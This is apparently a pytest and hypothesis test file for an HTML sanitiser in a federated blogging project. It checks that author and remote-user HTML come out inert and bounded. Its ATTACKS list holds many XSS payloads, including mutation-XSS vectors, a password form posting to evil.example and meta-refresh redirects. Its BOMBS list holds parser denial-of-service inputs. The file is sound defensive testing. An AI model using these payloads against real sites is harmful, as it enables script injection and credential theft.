"""What is left of HTML from authors and from remote people."""

import time
from html.parser import HTMLParser
from urllib.parse import urlsplit

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from fedblog.domain.errors import InvalidFieldError
from fedblog.text import markdown
from fedblog.text.full_addresses import full_address, with_full_addresses
from fedblog.text.sanitise import (
    author_html,
    own_lines,
    plain_text,
    remote_html,
    remote_lines,
    remote_text,
    text_of_either,
)

REMOTE_ELEMENTS = {
    *("a", "b", "bdi", "blockquote", "br", "code", "del", "em", "i", "ins", "li", "mark", "ol"),
    *("p", "pre", "q", "rp", "rt", "ruby", "s", "small", "span", "strong", "sub", "sup", "u", "ul"),
}
REMOTE_ATTRIBUTES = {"class", "href", "lang", "rel", "start"}
NEVER = {
    *("audio", "base", "body", "button", "embed", "form", "frame", "frameset", "head", "html"),
    *("iframe", "input", "link", "math", "meta", "noscript", "object", "param", "script", "select"),
    *("style", "svg", "template", "textarea", "title", "video", "xmp"),
}


class Inspector(HTMLParser):
    """Reads a result with a parser that is not the sanitiser's own."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, dict[str, str]]] = []
        self.others: list[str] = []
        self.text = ""

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, {name: value or "" for name, value in attrs}))

    def handle_data(self, data: str) -> None:
        self.text += data

    def handle_comment(self, data: str) -> None:
        self.others.append(data)

    def handle_decl(self, decl: str) -> None:
        self.others.append(decl)

    def handle_pi(self, data: str) -> None:
        self.others.append(data)

    def unknown_decl(self, data: str) -> None:
        self.others.append(data)


def inspect(html: str) -> Inspector:
    inspector = Inspector()
    inspector.feed(html)
    inspector.close()
    return inspector


def assert_inert(html: str, *, schemes: set[str]) -> Inspector:
    seen = inspect(html)
    assert not seen.others, "comments or declarations are left"
    for element, attributes in seen.elements:
        assert element not in NEVER
        for name, value in attributes.items():
            assert not name.startswith("on"), name
            assert name not in ("style", "srcdoc", "srcset", "formaction", "action", "xlink:href")
            if name in ("href", "src", "cite"):
                squeezed = "".join(value.split()).lower()
                assert not squeezed.startswith(("javascript:", "data:", "vbscript:", "file:"))
                assert urlsplit(value.strip()).scheme in schemes
    return seen


def assert_remote_is_inert(html: str) -> None:
    seen = assert_inert(html, schemes={"http", "https", "mailto"})
    for element, attributes in seen.elements:
        assert element in REMOTE_ELEMENTS
        assert set(attributes) <= REMOTE_ATTRIBUTES
        if element == "a":
            assert attributes["rel"] == "nofollow noopener noreferrer ugc"


def assert_author_is_inert(html: str) -> None:
    assert_inert(html, schemes={"", "http", "https", "mailto", "tel"})


ATTACKS = {
    "script": "<script>alert(1)</script>",
    "script in capitals": "<ScRiPt SRC=//evil.example/x.js></sCrIpT>",
    "script split by another": "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "script never closed": "<p>before<script>alert(1)",
    "handler on a picture": '<img src="x" onerror="alert(1)">',
    "handler on a link": '<a href="https://ok.example/" onclick="alert(1)">x</a>',
    "handler after a slash": "<svg/onload=alert(1)>",
    "handler on an unknown element": "<x onpointerenter=alert(1)>x</x>",
    "handler on body": "<body onload=alert(1)><p>x",
    "handler on details": "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "javascript link": '<a href="javascript:alert(1)">x</a>',
    "javascript link with a tab": '<a href="java\tscript:alert(1)">x</a>',
    "javascript link with references": '<a href="&#106;avascript&colon;alert(1)">x</a>',
    "javascript link with a leading control": '<a href="\x01javascript:alert(1)">x</a>',
    "javascript link in capitals": '<a href=" JaVaScRiPt:alert(1)">x</a>',
    "vbscript link": '<a href="vbscript:msgbox(1)">x</a>',
    "data link": '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    "data picture": '<img src="data:image/svg+xml;base64,PHN2Zy8+">',
    "javascript picture": '<img src="javascript:alert(1)">',
    "javascript citation": '<blockquote cite="javascript:alert(1)">x</blockquote>',
    "candidates of a picture": '<img srcset="https://evil.example/x 1x" src="https://ok.example/">',
    "svg": "<svg><script>alert(1)</script><a xlink:href='javascript:alert(1)'>x</a></svg>",
    "svg with animation": "<svg><animate onbegin=alert(1) attributeName=x></svg>",
    "svg with foreign content": "<svg><foreignObject><img src=x onerror=alert(1)></svg>",
    "mathml": '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
    "style element": "<style>*{background:url(//evil.example/)}</style>",
    "style attribute": '<p style="position:fixed;inset:0;background:red">x</p>',
    "unclosed comment": "<p>a</p><!-- <img src=x onerror=alert(1)>",
    "comment closed by a bang": "<!--!> <img src=x onerror=alert(1)> -->",
    "comment with a dash": "<!--> <script>alert(1)</script> -->",
    "conditional comment": "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "CDATA": "<![CDATA[<script>alert(1)</script>]]>",
    "processing instruction": "<?xml version='1.0'?><script>alert(1)</script>",
    "template": "<template><script>alert(1)</script></template>",
    "template in a table": "<table><template><tr><td onclick=alert(1)>x</template></table>",
    "noscript": '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "text area": "<textarea></textarea><img src=x onerror=alert(1)>",
    "title": '<title><img src="</title><img src=x onerror=alert(1)>">',
    "plaintext": "<plaintext><script>alert(1)</script>",
    "xmp": '<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
    "noembed": "<noembed><img title='</noembed><img src onerror=alert(1)>'></noembed>",
    "mutation through mathml": (
        "<math><mtext><table><mglyph><style><!--</style>"
        '<img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">'
    ),
    "mutation through svg": (
        '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>"></a></style></svg>'
    ),
    "mutation through a form": (
        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>"
    ),
    "mutation through a list": '<ul><li><table><li><a href="`x`" title="`onclick=alert(1)">x',
    "frame": '<iframe srcdoc="<script>alert(1)</script>" src="javascript:alert(1)"></iframe>',
    "object": '<object data="javascript:alert(1)"></object>',
    "embed": '<embed src="javascript:alert(1)">',
    "form": '<form action="https://evil.example/"><input name=password><button>Go</button></form>',
    "button with its own action": '<button formaction="javascript:alert(1)">x</button>',
    "refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    "base": '<base href="https://evil.example/">',
    "link element": '<link rel="stylesheet" href="https://evil.example/x.css">',
    "import of a page": '<link rel="import" href="data:text/html,<script>alert(1)</script>">',
    "video": '<video><source onerror="alert(1)"></video>',
    "isindex": "<isindex type=image src=1 onerror=alert(1)>",
    "attribute without blanks": '<p/title="x"onmouseover="alert(1)">x</p>',
    "quote in an attribute": "<a href='https://ok.example/\"onmouseover=\"alert(1)'>x</a>",
    "NUL in a name": "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "half a tag": "<img src=x onerror=alert(1) ",
    "half an escape": "&lt;script&gt;alert(1)&lt;/script&gt;",
    "escape twice": "&amp;lt;script&amp;gt;alert(1)",
    "class of the page": '<p class="modal admin-bar">x</p>',
    "id of the page": '<p id="main">x</p><a id="document" name="cookie">x</a>',
}


@pytest.mark.parametrize("attack", ATTACKS.values(), ids=ATTACKS.keys())
def test_s25_stored_script_in_remote_html_is_inert(attack: str) -> None:
    assert_remote_is_inert(remote_html(attack))
    assert_remote_is_inert(remote_html(f"<p>one {attack} two</p>"))
    assert_remote_is_inert(remote_html(f"<ul><li><b>{attack}</li></ul>"))


@pytest.mark.parametrize("attack", ATTACKS.values(), ids=ATTACKS.keys())
def test_s25_stored_script_in_author_html_is_inert(attack: str) -> None:
    assert_author_is_inert(author_html(attack))
    assert_author_is_inert(author_html(markdown.render(attack)))
    assert_author_is_inert(author_html(f"<table><tr><td>{attack}</td></tr></table>"))


@pytest.mark.parametrize("attack", ATTACKS.values(), ids=ATTACKS.keys())
def test_s25_markup_around_the_content_is_not_closed_by_it(attack: str) -> None:
    seen = inspect(f"<ol><li><div>{remote_html('</div></li></ol>' + attack)}</div></li></ol>END")
    assert seen.text.endswith("END")


def test_s26_what_an_author_may_write_a_remote_person_may_not() -> None:
    html = (
        '<h2>A</h2><figure class="wide"><img src="https://media.example/x.jpg" alt="x">'
        '<figcaption>C <small class="credit">D</small></figcaption></figure>'
        "<table><tbody><tr><td>1</td></tr></tbody></table>"
        "<details><summary>S</summary><p>T</p></details>"
        '<p class="byline">By A</p>'
    )
    assert author_html(html) == html
    seen = inspect(remote_html(html))
    assert {element for element, _ in seen.elements} == {"p", "small", "strong"}
    assert all(not attributes for _, attributes in seen.elements)


def test_s26_a_remote_person_keeps_no_class_of_an_author() -> None:
    assert "class" not in remote_html('<blockquote class="quoted-piece">x</blockquote>')
    assert author_html('<blockquote class="quoted-piece modal">x</blockquote>') == (
        '<blockquote class="quoted-piece">x</blockquote>'
    )


def test_typical_reply_of_mastodon_keeps_what_its_reader_needs() -> None:
    reply = (
        '<p><span class="h-card" translate="no"><a href="https://blog.example/ap/blog" '
        'class="u-url mention">@<span>blog</span></a></span> Well said.<br />'
        '<a href="https://news.example/a/b" target="_blank" rel="nofollow">'
        '<span class="invisible">https://</span><span class="ellipsis">news.example/a</span>'
        '<span class="invisible">/b</span></a></p>'
    )
    rel = 'rel="nofollow noopener noreferrer ugc"'
    assert remote_html(reply) == (
        '<p><span><a href="https://blog.example/ap/blog" class="mention" '
        f"{rel}>@<span>blog</span></a></span> Well said.<br>"
        f'<a href="https://news.example/a/b" {rel}>'
        '<span class="invisible">https://</span><span class="ellipsis">news.example/a</span>'
        '<span class="invisible">/b</span></a></p>'
    )


def test_headings_of_a_remote_person_become_bold_paragraphs() -> None:
    assert remote_html('<h1 id="top">A</h1><H3>B</H3>') == (
        "<p><strong>A</strong></p><p><strong>B</strong></p>"
    )


def test_headings_of_an_author_stay_below_the_title() -> None:
    assert author_html("<h1>A</h1><h3>B</h3><h6>C</h6>") == "<h2>A</h2><h3>B</h3><h4>C</h4>"


def test_pictures_of_a_remote_person_are_dropped() -> None:
    assert remote_html('<p>a<img src="https://t.example/pixel.gif" alt="x">b</p>') == "<p>ab</p>"


def test_author_pictures_come_from_the_web_or_from_here() -> None:
    web = ("https://media.example/x.jpg", "http://media.example/x.jpg", "//media.example/x.jpg")
    for source in (*web, "/media/x.jpg", "x.jpg", "../x.jpg", "?x"):
        assert f'src="{source}"' in author_html(f'<img src="{source}">')
    for source in ("/\\media.example/x", "\tx.jpg", "ftp://m.example/x", "data:image/png,x", ""):
        assert "src" not in author_html(f'<img src="{source}">')


def test_list_item_without_its_list_does_not_close_an_item_of_the_page() -> None:
    assert "<li" not in remote_html("<p>a</p><li>b</li>")
    assert remote_html("<ul><li>b</li></ul>") == "<ul><li>b</li></ul>"


def test_too_deep_author_html_names_the_field() -> None:
    with pytest.raises(InvalidFieldError, match="nested deeper") as caught:
        author_html("<blockquote>" * 101 + "x")
    assert caught.value.field == "content"


BOMBS = {
    "deep lists": "<ul><li>" * 100_000,
    "deep quotes": "<blockquote>" * 80_000,
    "deep tables": "<table><tr><td>" * 60_000,
    "marks that multiply": "<p>"
    + "".join(f"<b lang=x{n}>" for n in range(2_000))
    + "</p><p>x" * 900,
    "a long link that multiplies": f'<p><a href="https://x.example/{"y" * 50_000}"></p>'
    + "<p>x</p>" * 400,
    "ampersands": "&" * 1_000_000,
    "brackets": "<" * 1_000_000,
    "open tags": "<a " * 300_000,
    "open headings": "<h1 " * 200_000,
    "open comments": "<!--" * 200_000,
    "blanks": "<p>" + " \n" * 300_000 + "x",
}


@pytest.mark.parametrize("bomb", BOMBS.values(), ids=BOMBS.keys())
def test_s18_html_bomb_is_read_in_bounded_time_and_space(bomb: str) -> None:
    started = time.process_time()
    result = remote_html(bomb)
    plain_text(bomb)
    assert time.process_time() - started < 5  # half a second where it is read in linear time
    assert len(result) < 10 * len(bomb)
    assert_remote_is_inert(result)


# What the strategies build: soup of the pieces that parsers trip over.
PIECES = st.sampled_from(
    [
        *("<p>", "</p>", "<a href=x>", '<a href="https://a.example/">', "</a>", "<b>", "</b>"),
        *("<i>", "</i>", "<ul>", "<ol>", "<li>", "</li>", "</ul>", "</ol>", "<blockquote>"),
        *("</blockquote>", "<h1>", "</h1>", "<h4 class=x>", "</h4>", "<table>", "<tr>", "<td>"),
        *("</table>", "<caption>", "<pre>", "\n", "</pre>", "<svg>", "</svg>", "<math>", "<mi>"),
        *("</math>", "<style>", "</style>", "<script>", "</script>", "<!--", "-->", "<template>"),
        *("</template>", "<button>", "<form>", "</form>", "<select>", "<option>", "<details>"),
        *("<summary>", "<figure>", "<figcaption>", "<img src=/media/x onerror=y>", "<br>", "&lt;"),
        *(
            "&amp;",
            "&",
            "<",
            ">",
            '"',
            "'",
            "=",
            "/",
            "javascript:",
            "onerror=",
            "<mglyph>",
            "<dd>",
        ),
        *("<dl>", "<dt>", "<ruby>", "<rt>", "<rp>", "<section>", "<header>", "<hr>", "<code>"),
        *(
            "<span class=invisible>",
            "</span>",
            "<title>",
            "<textarea>",
            "<noscript>",
            "<foreignObject>",
        ),
    ]
)
SOUP = st.lists(st.one_of(PIECES, PIECES, st.text(max_size=6)), max_size=40).map("".join)


@settings(max_examples=400, deadline=None)
@given(SOUP)
@example("<p><button><p>x")
@example("<pre>\n\n\nx")
@example("<a href=https://a.example/><svg><a href=https://b.example/>x")
def test_remote_html_is_inert_and_settled_whatever_comes(html: str) -> None:
    once = remote_html(html)
    assert_remote_is_inert(once)
    assert remote_html(once) == once


@settings(max_examples=400, deadline=None)
@given(SOUP)
def test_author_html_is_inert_and_settled_whatever_comes(html: str) -> None:
    once = author_html(html)
    assert_author_is_inert(once)
    assert author_html(once) == once


@settings(max_examples=200, deadline=None)
@given(SOUP)
def test_markdown_of_anything_is_inert_after_sanitising(source: str) -> None:
    assert_author_is_inert(author_html(markdown.render(source)))


@settings(max_examples=200, deadline=None)
@given(SOUP)
def test_remote_html_never_reaches_out_of_its_place(html: str) -> None:
    names: list[str] = []

    class Balance(HTMLParser):
        def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
            if tag != "br":
                names.append(tag)

        def handle_endtag(self, tag: str) -> None:
            assert names.pop() == tag

    Balance().feed(f"<article>{remote_html(html)}</article>")
    assert not names


@given(st.text())
def test_plain_text_survives_escaping(text: str) -> None:
    from html import escape

    words = " ".join("".join(c for c in text if c.isprintable()).split())
    assert " ".join(plain_text(f"<p>{escape(words)}</p>").split()) == words


def test_addresses_of_this_server_are_written_in_full_for_others() -> None:
    html = (
        '<p>Write href="/x" <a href="/2026/">a</a><img src="/media/x.jpg" alt="a &gt; b">'
        '<a href="https://b.example/">b</a><a href="//c.example/">c</a><a href="#fn1">1</a></p>'
    )
    assert with_full_addresses(html, "https://blog.example/2026/a/") == (
        '<p>Write href="/x" <a href="https://blog.example/2026/">a</a>'
        '<img src="https://blog.example/media/x.jpg" alt="a &gt; b">'
        '<a href="https://b.example/">b</a><a href="https://c.example/">c</a>'
        '<a href="https://blog.example/2026/a/#fn1">1</a></p>'
    )


@pytest.mark.parametrize(
    ("address", "full"),
    [
        ("https:b", "https://blog.example/2026/a/b"),
        ("HTTPS:../b", "https://blog.example/2026/b"),
        ("https:/b", "https://blog.example/b"),
        ("https:?page=2", "https://blog.example/2026/a/?page=2"),
        ("http:b.example/c", "http://b.example/c"),
        ("http:/b.example", "http://b.example"),
        (" ../b\n", "https://blog.example/2026/b"),
        ("https:", "https:"),
        ("https:///b", "https:///b"),
        ("mailto:a@b.example", "mailto:a@b.example"),
    ],
)
def test_address_with_a_scheme_and_no_host_is_read_as_browsers_do(address: str, full: str) -> None:
    assert full_address(address, "https://blog.example/2026/a/") == full


def test_plain_text_keeps_blocks_and_lines_apart() -> None:
    html = "<h2>Title</h2><p>One<br>two <b>three</b></p><ul><li>a</li><li>b</li></ul>"
    assert plain_text(html) == "Title\n\nOne\ntwo three\n\na\n\nb"


def test_plain_text_holds_nothing_of_scripts_and_styles() -> None:
    assert plain_text("<p>a</p><script>alert(1)</script><style>p{}</style>") == "a"


@given(st.text(alphabet=st.characters(exclude_categories=())))
def test_remote_text_is_one_bounded_line_without_controls(text: str) -> None:
    result = remote_text(text)
    assert len(result) <= 200
    assert result == result.strip()
    assert not any(c in result for c in "\x00\n\r\t\x1b\u202e\u2066\u2069\u200b")
    result.encode()
    assert remote_text(result) == result


def test_s25_name_cannot_turn_the_direction_of_what_stands_beside_it() -> None:
    assert remote_text("Eve\u202egnp.exe\u2066\x00 \n B") == "Evegnp.exe B"


def test_joined_emoji_in_a_name_stays_whole() -> None:
    family = "Ann \N{WOMAN}\u200d\N{GIRL}"
    assert remote_text(family) == family


@pytest.mark.parametrize(
    "text",
    [
        "I <3 you",
        "about <Alien> and <Aliens>",
        "how to write <b>",
        "a < b > c &amp; d",
        "Vec<u8> & List<String>",
        "</p> alone",
        "Q&A",
        "x &lt;y& z",
        "<script>x</script>",
    ],
)
def test_plain_text_of_others_keeps_what_stands_between_angle_brackets(text: str) -> None:
    assert text_of_either(text) == text


@pytest.mark.parametrize(
    ("html", "text"),
    [
        ("<p>Films &amp; <b>more</b></p>", "Films & more"),
        ("<span class='x'>about <Alien></span>", "about <Alien>"),
        ("one<br>two", "one\ntwo"),
        ("<p>a<img src='x' alt='y'> <font>b</font><!-- c --> <Foo></p>", "a b <Foo>"),
        ("AT&amp;T &lt;3", "AT&T <3"),
    ],
)
def test_html_of_others_becomes_its_text(html: str, text: str) -> None:
    assert text_of_either(html) == text


def test_lines_of_others_end_where_they_ended() -> None:
    text = " A chart:\r\n1 < 2\x00\u202e\n\n\n\n<b>two</b>\t rows "
    assert remote_lines(text, limit=100) == "A chart:\n1 < 2\n\n<b>two</b> rows"
    assert remote_lines("a\n" * 5000, limit=9) == "a\na\na\na…"


@given(st.text(alphabet=st.characters(exclude_categories=())))
def test_lines_of_an_author_lose_controls_alone(text: str) -> None:
    kept = own_lines(text)
    kept.encode()
    assert own_lines(kept) == kept
    assert kept.count("<") == text.count("<")
    assert kept.count("&") == text.count("&")
